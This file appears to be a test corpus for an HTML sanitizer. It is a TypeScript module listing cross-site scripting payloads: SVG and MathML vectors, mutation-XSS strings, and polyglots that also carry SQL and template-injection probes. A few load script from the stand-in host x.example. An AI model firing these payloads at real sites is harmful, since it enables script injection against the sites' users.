/** @module Foreign trees (SVG, MathML), markup that a second parser reads differently, and texts that fit many places at once. */

export const FOREIGN: readonly string[] = [
  '<svg/onload=alert(1)>',
  '<svg><script>alert(1)</script></svg>',
  '<svg><script href=data:,alert(1) />',
  '<svg><script xlink:href=//x.example/x.js></script></svg>',
  '<svg><animate onbegin=alert(1) attributeName=x></svg>',
  '<svg><animate attributeName=href values=javascript:alert(1) /><a id=x><text y=20>klik</text></a></svg>',
  '<svg><set attributeName=onmouseover to=alert(1)>',
  '<svg><a xlink:href="javascript:alert(1)"><text y=20>klik</text></a></svg>',
  '<svg><use href="data:image/svg+xml,<svg id=x onload=alert(1)/>#x"></use></svg>',
  '<svg><foreignObject><iframe src=javascript:alert(1)></iframe></foreignObject></svg>',
  '<svg><image href=x onerror=alert(1)></svg>',
  '<svg><style>*{x:url(//x.example)}</style></svg>',
  '<svg><title><img src=x onerror=alert(1)></title></svg>',
  '<svg><desc><script>alert(1)</script></desc></svg>',
  '<svg><discard onbegin=alert(1)>',
  '<svg xmlns:x="http://www.w3.org/1999/xhtml"><x:script>alert(1)</x:script></svg>',
  '<math><maction actiontype=statusline#http://x.example xlink:href=javascript:alert(1)>klik</maction></math>',
  '<math href=javascript:alert(1)>klik</math>',
  '<math><annotation-xml encoding=text/html><script>alert(1)</script></annotation-xml></math>',
  '<math><mi//xlink:href="data:x,<script>alert(1)</script>">',
]

/** Harmless when read once, something else when what was read is written down and read again. */
export const MUTATIONS: readonly string[] = [
  '<math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>',
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
  '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">',
  '<svg><p><style><g title="</style><img src onerror=alert(1)>">',
  '<form><math><mtext></form><form><mglyph><svg><mtext><style><path id="</style><img onerror=alert(1) src>">',
  '<noscript><style></noscript><img src=x onerror=alert(1)>',
  '<noembed><img title="</noembed><img src onerror=alert(1)>"></noembed>',
  '<noframes><style></noframes><img src onerror=alert(1)></style></noframes>',
  '<select><template><style><!--</style><a rel="--></style></template></select><img src onerror=alert(1)>">',
  '<table><td><svg><desc><td></desc></svg><img src onerror=alert(1)></table>',
  '<p id="</p><img src onerror=alert(1)>">',
  '<a href="x`onmouseover=alert(1)">`</a>',
  '<listing>&lt;img onerror=alert(1) src=x&gt;</listing>',
  '<xmp><p title="</xmp><svg/onload=alert(1)>">',
  '<iframe><style></iframe><img src onerror=alert(1)></style></iframe>',
  '<svg><![CDATA[</svg><img src onerror=alert(1)>]]>',
  '<option><style></option></select><img src onerror=alert(1)></style>',
  '<br title="&lt;/title&gt;&lt;script&gt;alert(1)&lt;/script&gt;">',
]

export const POLYGLOTS: readonly string[] = [
  'jaVasCript:/*-/*`/*\\`/*\'/*"/**/(/* */oNcliCk=alert(1) )//%0D%0A%0d%0a//</stYle/</titLe/</teXtarEa/</scRipt/--!>\\x3csVg/<sVg/oNloAd=alert(1)//>\\x3e',
  '\'">><marquee><img src=x onerror=alert(1)></marquee>"></plaintext\\></|\\><plaintext/onmouseover=alert(1)>',
  '">\'>`>--></style></script></title></textarea></noscript><svg onload=alert(1)>',
  '\';alert(1)//\\\';alert(1)//";alert(1)//\\";alert(1)//--></SCRIPT>">\'><SCRIPT>alert(1)</SCRIPT>',
  '{{7*7}}\u0024{7*7}<%=7*7%>#{7*7}"><img src=x onerror=alert(1)>',
  '=1+1"><script>alert(1)</script>\' or 1=1 --',
  '[klik](javascript:alert(1)) <javascript:alert(1)> ![x](x"onerror="alert(1))',
]
